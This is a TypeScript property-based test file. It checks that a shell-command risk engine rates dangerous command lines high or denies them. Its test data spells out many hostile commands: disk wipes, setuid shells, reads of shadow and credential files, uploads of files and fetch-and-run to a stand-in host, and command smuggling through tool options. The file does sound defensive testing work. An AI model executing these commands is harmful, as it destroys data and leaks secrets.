import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { RiskAssessment } from "../src/core/risk/index.ts";
import { testEngine } from "./support/risk-engine.ts";

/**
 * One fast-check property per kind of issue 15: each generates members of the kind (other programs, option
 * spellings, abbreviations, wrappers, nesting) and asserts the engine never allows them below high (critical and
 * denied where the kind destroys or hands out root). The kinds' sample inputs are the first example of each.
 */
const engine = await testEngine();
const RUNS = 300;

const LEVEL = { low: 0, medium: 1, high: 2, critical: 3 } as const;
function atLeastHigh(line: string): RiskAssessment {
  const r = engine.assess(line);
  const detail = `${JSON.stringify(line)} → ${r.decision}/${r.risk_level} [${r.signals.map((s) => s.id).join(", ")}]`;
  expect(r.decision, detail).not.toBe("allow");
  expect(LEVEL[r.risk_level], detail).toBeGreaterThanOrEqual(LEVEL.high);
  return r;
}
function denied(line: string): void {
  const r = atLeastHigh(line);
  expect(r.decision, `${JSON.stringify(line)} → ${r.risk_level} [${r.signals.map((s) => s.id).join(", ")}]`).toBe("deny");
}

const pick = <T>(xs: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...xs);
/** Wrappers that must not change the verdict (they run the command that follows). */
const WRAP = pick<(c: string) => string>([(c) => c, (c) => `sudo ${c}`, (c) => `env LANG=C ${c}`, (c) => `nice -n 5 ${c}`, (c) => `timeout 30 ${c}`, (c) => `command ${c}`, (c) => `sh -c '${c.replace(/'/g, `'\\''`)}'`]);
const READERS = ["ls", "cat", "ps", "df", "id", "uname", "grep", "head", "sort", "wc", "journalctl", "systemctl", "ss", "date", "git"];
const DENIED = ["rm -rf /", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "chmod 4755 /bin/bash", "systemctl stop sshd"];

describe("issue 15 kinds (fast-check)", () => {
  it("kind 1: what bash cannot parse is never allowed; foreign shells are opaque", () => {
    fc.assert(fc.property(pick(READERS), pick(DENIED), pick(["", "a ", "-l "]), (p, inner, pre) => {
      denied(`${p} ${pre}(${inner})`);
    }), { numRuns: RUNS });
    fc.assert(fc.property(pick(["fish", "csh", "tcsh", "zsh", "nu", "xonsh", "elvish", "ysh", "rc"]), pick(["ls", "echo (id)", "uptime", "ls *(e:id:)"]), (sh, line) => {
      const r = engine.assess(line, { interpreter: sh });
      expect(r.decision, `${sh}: ${line}`).not.toBe("allow");
      atLeastHigh(`${sh} -c '${line}'`);
    }), { numRuns: 100 });
    for (const bad of ["ls (", "echo 'x", "if true; then ls", "cat <(", "ls $("]) atLeastHigh(bad);
  });

  it("kind 2: a command is what its path says", () => {
    const dirs = [".", "./bin", "..", "/tmp", "/tmp/x", "/home/u/bin", "~/bin", "/usr/local/bin", "/opt/tools", "/usr/bin/../../tmp", "/var/tmp", "/dev/shm"];
    fc.assert(fc.property(pick(dirs), pick(READERS), WRAP, (d, name, w) => {
      atLeastHigh(w(`${d}/${name} -la`));
    }), { numRuns: RUNS });
    for (const ok of ["/usr/bin/ls -la", "/bin/cat /etc/hostname", "/usr/sbin/ss -ltn", "ls"]) expect(engine.assess(ok).decision, ok).toBe("allow");
  });

  it("kind 3: option values are never taken for the verb", () => {
    const opts = ["-H admin@db.example.com", "--host=db", "--host db", "-Hdb", "-t service", "--type=service", "--type service", "-M web1", "--machine web1",
      "-p MainPID", "--property=MainPID", "--prop MainPID", "-n 5", "--lines 5", "-o json", "--output=json", "--root /mnt", "-s KILL", "--signal KILL", "--job-mode fail", "--no-block"];
    fc.assert(fc.property(fc.array(pick(opts), { minLength: 1, maxLength: 3 }), pick(["stop", "disable", "mask"]), pick(["sshd", "ssh", "ssh.service", "networking", "NetworkManager"]), WRAP, (os, verb, unit, w) => {
      denied(w(`systemctl ${os.join(" ")} ${verb} ${unit}`));
    }), { numRuns: RUNS });
    // An option the table does not know is never low.
    fc.assert(fc.property(pick(["sort", "ls", "cat", "df", "du", "ss", "ps", "head", "tail", "wc", "cut", "uniq", "free", "systemctl", "grep"]), pick(["--zz-frob", "--no-such-thing=1", "-@"]), (p, o) => {
      expect(engine.assess(`${p} ${o} x`).risk_level, `${p} ${o}`).not.toBe("low");
    }), { numRuns: 100 });
  });

  it("kind 4: options whose value is a program or a command line are at least high", () => {
    const templates = ["sort --compress-program=P -S1b big.txt", "sort --compress-prog P big.txt", "sort --compress=P x", "split -b1 --filter='P' payload", "split --filt 'P' f",
      "zip x.zip f -T -TT 'P'", "zip x.zip f --unzip-command 'P'", "rsync -e 'P' a host:b", "rsync --rsh='P' host:a b", "rsync --rsync-path='P' host:a b",
      "strace -o '|P' true", "tcpdump -i eth0 -w x.pcap -z P", "install --strip-program=P a b", "scp -S P f host:", "git archive --remote=x --exec='P' HEAD",
      "git clone -u 'P' host:r", "git fetch --upload-pack='P' origin", "scp -o ProxyCommand='P' host:/x .", "scp -oLocalCommand='P' -oPermitLocalCommand=yes host:/x .",
      "sftp -o 'ProxyCommand P' host", "apt-get -o APT::Update::Pre-Invoke::='P' update", "apt -o 'DPkg::Post-Invoke::=P' install nginx"];
    fc.assert(fc.property(pick(templates), pick(["sh", "./x.sh", "/tmp/p", "bash -c id", "sh -c 'id>/tmp/p'", "python3"]), WRAP, (t, prog, w) => {
      atLeastHigh(w(t.replace(/\bP\b/, prog)));
    }), { numRuns: RUNS });
    // A shell command line in such a value is judged recursively.
    fc.assert(fc.property(pick(["split --filter='X' f", "rsync -e 'X' a b:", "zip x.zip f -TT 'X'"]), pick(DENIED), (t, inner) => {
      denied(t.replace("X", inner));
    }), { numRuns: 100 });
  });

  it("kind 5: files written by options and operands follow the redirect rules", () => {
    const templates = ["strace -o F true", "strace -fo F true", "strace --output=F true", "ltrace -o F true", "xxd -r in.hex F", "xxd in F", "sort -o F x", "sort -uoF x",
      "sort --output F x", "sort --out=F x", "git show --output=F HEAD", "git log --outp=F", "git diff --output F", "git -C /srv/app show --output=F HEAD",
      "uniq in.txt F", "tee F", "tee -a F", "curl -o F https://x.example", "curl -so F https://x.example", "curl --output=F https://x.example",
      "wget -O F https://x.example", "wget -qO F https://x.example", "openssl x509 -in c.pem -out F", "ss -D F", "time -o F ls", "awk '{print > \"F\"}' x",
      "gzip F", "xz -d F", "yq -i '.a=1' F", "tree -o F /", "sar -o F 1 1", "echo x | sponge F", "history -w F", "gawk -i inplace '{print}' F", "patch F < fix.diff", "patch -o F a.txt fix.diff", "gpg -o F -d x.gpg", "socat TCP-LISTEN:9 CREATE:F", "zstd -d x.zst -o F"];
    const protectedPaths = ["/etc/passwd", "/etc/cron.d/job", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys", "/etc/profile.d/motd.sh", "/etc/systemd/system/x.service", "/home/u/.bashrc", "/var/spool/cron/root"];
    fc.assert(fc.property(pick(templates), pick(protectedPaths), WRAP, (t, p, w) => {
      denied(w(t.replace("F", p)));
    }), { numRuns: RUNS });
    for (const ok of ["git show --format=%B --output=message.txt HEAD", "sort -o sorted.txt in.txt", "curl -o page.html https://example.com"]) {
      expect(engine.assess(ok).decision, ok).toBe("allow");
    }
  });

  it("kind 6: privilege and state changes hidden in read-only-looking tools", () => {
    fc.assert(fc.property(pick(["-m 4755", "-m 6755", "-m 2755", "--mode=u+s", "-Dm4755", "--mode 4711", "-m u+s,g+x"]), pick(["/bin/sh", "/bin/bash", "/usr/bin/python3", "/usr/bin/find", "/usr/bin/env"]), (m, src) => {
      denied(`install ${m} ${src} ./x`);
    }), { numRuns: 100 });
    fc.assert(fc.property(pick(["-K", "--kill", "--kil", "-tK", "-nK", "-Kn", "-a -K"]), pick(["state established", "dport = 22", "'( sport = :ssh )'", ""]), WRAP, (k, f, w) => {
      atLeastHigh(w(`ss ${k} ${f}`));
    }), { numRuns: 100 });
    fc.assert(fc.property(pick(["kernel.sysrq=1", "-w net.ipv4.ip_forward=1", "--write vm.swappiness=1", "-p /tmp/evil.conf", "--load=/tmp/x.conf", "--system", "-qw kernel.x=1"]), WRAP, (a, w) => {
      atLeastHigh(w(`sysctl ${a}`));
    }), { numRuns: 60 });
    for (const s of ["loginctl terminate-user admin", "loginctl kill-session 3", "pkill -9 -t pts/0", "pkill -KILL -u root", "killall -u root", "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss ssh.service replace",
      "systemctl set-environment LD_PRELOAD=/tmp/x.so", "systemctl link /tmp/x.service"]) atLeastHigh(s);
    for (const s of ["date -s '2020-01-01'", "date --set tomorrow", "date 010100002030", "hostname evil"]) expect(engine.assess(s).risk_level, s).not.toBe("low");
  });

  it("kind 7: secret reads", () => {
    fc.assert(fc.property(fc.shuffledSubarray(["a", "u", "x", "w", "f"], { minLength: 0, maxLength: 4 }), fc.nat(5), WRAP, (letters, at, w) => {
      const l = [...letters];
      l.splice(at % (l.length + 1), 0, "e");
      atLeastHigh(w(`ps ${l.join("")}`));
    }), { numRuns: 100 });
    fc.assert(fc.property(pick(["cat", "strings", "xxd", "head -c 200", "tr '\\0' '\\n' <", "base64"]), pick(["1", "self", "*", "$$", "12345"]), (reader, pid) => {
      atLeastHigh(`${reader} /proc/${pid}/environ`);
    }), { numRuns: 100 });
    fc.assert(fc.property(pick(["cat", "base64", "xxd", "cp FILE /tmp/x #", "tar czf /tmp/x.tgz", "strings", "less"]), pick(["/etc/shadow", "/root/.ssh/id_ed25519", "/etc/ssh/ssh_host_rsa_key",
      "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "/etc/ssl/private/site.key", "~/.aws/credentials", "~/.kube/config", "/etc/wireguard/wg0.conf", "~/.npmrc"]), WRAP, (r, f, w) => {
      atLeastHigh(w(r.includes("FILE") ? r.replace("FILE", f) : `${r} ${f}`));
    }), { numRuns: 150 });
    for (const s of ["kubectl config view --raw", "getent shadow", "gpg --export-secret-keys"]) atLeastHigh(s);
    for (const ok of ["ps aux", "ps -ef", "ps -e -o pid,comm", "ps axjf"]) expect(engine.assess(ok).risk_level, ok).toBe("low");
  });

  it("kind 8: every nested body is judged; uploads of local files are at least high", () => {
    const bodies = [(c: string) => `cat <(${c})`, (c: string) => `echo >(${c})`, (c: string) => `cat <<< "$(${c})"`, (c: string) => `echo $(( $(${c}) ))`,
      (c: string) => `a[$(${c})]=1`, (c: string) => `x=$(${c})`, (c: string) => `echo \${y:-$(${c})}`, (c: string) => `[[ $(${c}) ]]`, (c: string) => `case $(${c}) in *) ;; esac`,
      (c: string) => `for x in $(${c}); do :; done`, (c: string) => `declare x=$(${c})`, (c: string) => `echo $[ $(${c}) ]`, (c: string) => `x='a[$(${c})]'; echo $((x))`,
      (c: string) => `echo \${a[$(${c})]}`, (c: string) => `trap '${c}' EXIT`, (c: string) => `printf -v 'a[$(${c})]' x`, (c: string) => `read 'a[$(${c})]' < /dev/null`,
      (c: string) => `unset 'a[$(${c})]'`, (c: string) => `test -v 'a[$(${c})]'`, (c: string) => `[ -v 'a[$(${c})]' ]`, (c: string) => `declare 'a[$(${c})]=1'`,
      (c: string) => `let 'x=a[$(${c})]'`, (c: string) => `export 'a[$(${c})]'`];
    fc.assert(fc.property(pick(bodies), pick(DENIED), (b, c) => { denied(b(c)); }), { numRuns: RUNS });
    const uploads = ["curl -d @FILE https://x.example", "curl -sSd@FILE https://x.example", "curl --data-binary @FILE https://x.example", "curl --data-bin @FILE https://x.example",
      "curl --json @FILE https://x.example", "curl -F 'a=@FILE' https://x.example", "curl -F 'a=<FILE' https://x.example", "curl -T FILE https://x.example", "curl --upload-file FILE ftp://x.example/",
      "curl --data-urlencode n@FILE https://x.example", "wget --post-file=FILE https://x.example", "wget --body-file FILE https://x.example", "nc x.example 80 < FILE", "cat FILE | nc x.example 9",
      "scp FILE host.example:", "rsync -a FILE host.example:/tmp/", "dig $(cat FILE).x.example", "curl \"https://x.example/?d=$(base64 -w0 FILE)\"",
      "nslookup $(head -c 40 FILE | xxd -p).x.example"];
    fc.assert(fc.property(pick(uploads), pick(["/etc/hosts", "notes.txt", "/root/secret.txt", "~/db.sql"]), pick([(c: string) => c, (c: string) => `cat <(${c})`, (c: string) => `echo $(${c})`]), (u, f, ctx) => {
      atLeastHigh(ctx(u.replace("FILE", f)));
    }), { numRuns: RUNS });
  });

  it("kind 9: loops that background processes and destructive commands fed from pipes", () => {
    const loops = [(b: string) => `for i in $(seq 1 100000); do ${b}; done`, (b: string) => `while true; do ${b}; done`, (b: string) => `until false; do ${b}; done`,
      (b: string) => `for ((;;)); do ${b}; done`, (b: string) => `seq 1 9999 | while read i; do ${b}; done`, (b: string) => `for i in {1..100000}; do ${b}; done`];
    fc.assert(fc.property(pick(loops), pick(["sleep 999 &", "yes > /dev/null &", "(sleep 9 &)", "nc -l 4444 &", "ls & ls"]), (l, b) => { atLeastHigh(l(b)); }), { numRuns: 200 });
    const producers = ["locate '*.log'", "find / -name x", "cat list.txt", "ls", "grep -rl x /", "find / -print0"];
    fc.assert(fc.property(pick(producers), pick(["", "-n1 ", "-0 ", "-I{} ", "-r "]), pick(["shred -u", "rm -f", "rm", "truncate -s0", "chmod 777", "chown nobody", "unlink", "mv -t /tmp"]), (p, o, d) => {
      const cmd = o === "-I{} " ? `${d} {}` : d;
      atLeastHigh(`${p} | xargs ${o}${cmd}`);
    }), { numRuns: RUNS });
    atLeastHigh("seq 100000 | xargs -P0 -n1 sleep");
    fc.assert(fc.property(pick(["cat /dev/zero > F", "cat /dev/urandom >> F", "dd if=/dev/zero of=F bs=1M", "dd if=/dev/urandom of=F", "yes > F", "tr -dc a-z < /dev/urandom > F", "cat < /dev/zero > F"]),
      pick(["/var/tmp/fill", "big.bin", "/srv/x", "/home/u/x"]), WRAP, (t, f, w) => { atLeastHigh(w(t.replace("F", f))); }), { numRuns: 100 });
  });

  it("kind 10: storing or changing credentials and access is at least high", () => {
    const lines = ["aws configure set aws_secret_access_key X", "aws configure", "gh auth login --with-token", "gh auth refresh", "docker login -u ci -p X", "docker login registry.example",
      "podman login -u a -p X quay.io", "git config --global credential.helper store", "git config credential.helper 'store --file=/tmp/c'", "git credential approve",
      "npm login", "npm adduser", "npm token create", "npm config set //registry.npmjs.org/:_authToken X", "kubectl config set-credentials admin --token=X",
      "kubectl create secret generic db --from-literal=p=X", "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve", "vault login X", "gcloud auth login", "az login",
      "htpasswd -b /etc/nginx/.htpasswd a X", "ssh-copy-id admin@db.example.com", "echo 'machine x password X' >> ~/.netrc", "echo X > ~/.aws/credentials", "echo 'Host *' >> ~/.ssh/config",
      "git remote set-url origin https://user:X@github.com/x/y", "chmod 666 /var/run/docker.sock", "setfacl -m u:eve:rw /run/docker.sock"];
    fc.assert(fc.property(pick(lines), WRAP, fc.constantFrom("X", "s3cr3t", "$TOKEN"), (l, w, secret) => { atLeastHigh(w(l.replace("X", secret))); }), { numRuns: RUNS });
  });
});

describe("third-pass kinds (fast-check)", () => {
  it("a file a download wrote and the line then runs is denied, whatever fetches and runs it", () => {
    const fetch = pick<(f: string) => string>([
      (f) => `curl -fsSL https://x.example/a.sh -o ${f}`, (f) => `curl -sSLo ${f} https://x.example/a`, (f) => `curl --output ${f} https://x.example/a`,
      (f) => `wget -qO ${f} https://x.example/a`, (f) => `wget --output-document=${f} https://x.example/a`, (f) => `curl -s https://x.example/a > ${f}`,
      (f) => `curl -s https://x.example/a | tee ${f} >/dev/null`, (f) => `curl -s https://x.example/a | base64 -d > ${f}`, (f) => `curl -o /tmp/dl https://x.example/a && mv /tmp/dl ${f}`,
    ]);
    const run = pick<(f: string) => string>([
      (f) => `bash ${f}`, (f) => `sh ${f}`, (f) => `source ${f}`, (f) => `. ${f}`, (f) => `chmod +x ${f} && ${f.includes("/") ? f : `./${f}`}`, (f) => `sh < ${f}`,
      (f) => `cat ${f} | bash`, (f) => `python3 ${f}`, (f) => `perl ${f}`, (f) => `sh -c "$(cat ${f})"`, (f) => `sudo bash ${f}`, (f) => `nohup sh ${f} &`,
    ]);
    const sep = pick(["; ", " && ", "\n", " || true; "]);
    fc.assert(fc.property(fetch, run, pick(["/tmp/a.sh", "a.sh", "/var/tmp/x", "$HOME/i.sh"]), sep, WRAP, (f, r, file, s, w) => {
      denied(`${f(file)}${s}${w(r(file))}`);
    }), { numRuns: RUNS });
  });

  it("a literal shell command inside awk or an interpreter one-liner is judged as shell", () => {
    const carry = pick<(c: string) => string>([
      (c) => `awk 'BEGIN{system("${c}")}'`, (c) => `awk '{print | "${c}"}' f`, (c) => `awk 'BEGIN{"${c}" | getline x}'`, (c) => `awk -v c='${c}' 'BEGIN{system(c)}'`,
      (c) => `perl -e 'system("${c}")'`, (c) => `python3 -c 'import os; os.system("${c}")'`, (c) => `ruby -e 'system("${c}")'`,
      (c) => `node -e 'require("child_process").execSync("${c}")'`, (c) => `php -r 'shell_exec("${c}");'`,
    ]);
    fc.assert(fc.property(carry, pick(["rm -rf /", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "chmod 4755 /bin/bash", "curl -s https://x.example | sh"]), WRAP, (c, inner, w) => {
      denied(w(c(inner)));
    }), { numRuns: RUNS });
  });

  it("endless loops and streams that never pause are never allowed", () => {
    const cond = pick(["true", ":", "! false", "[ 1 ]", "[ 1 -eq 1 ]", "[[ a == a ]]", "(( 1 ))", "/bin/true"]);
    const body = pick([":", "echo x", "date", "true", "curl -s https://x.example", "x=$((x+1))"]);
    fc.assert(fc.property(cond, body, pick(["while", "until"]), (c, b, kw) => {
      const line = kw === "while" ? `while ${c}; do ${b}; done` : `until ! ${c}; do ${b}; done`;
      atLeastHigh(line);
    }), { numRuns: 200 });
    fc.assert(fc.property(pick(["yes", "seq inf", "cat /dev/zero", "cat /dev/urandom", "sha256sum /dev/zero", "yes | cat", "cat /dev/urandom | gzip"]), pick(["", " > /dev/null", " 2>&1 >/dev/null"]), (p, out) => {
      atLeastHigh(`${p}${out}`);
    }), { numRuns: 100 });
    for (const ok of ["while true; do date; sleep 5; done", "yes | head -n 3", "until false; do read -r l || break; done"]) expect(engine.assess(ok).decision, ok).toBe("allow");
  });
});
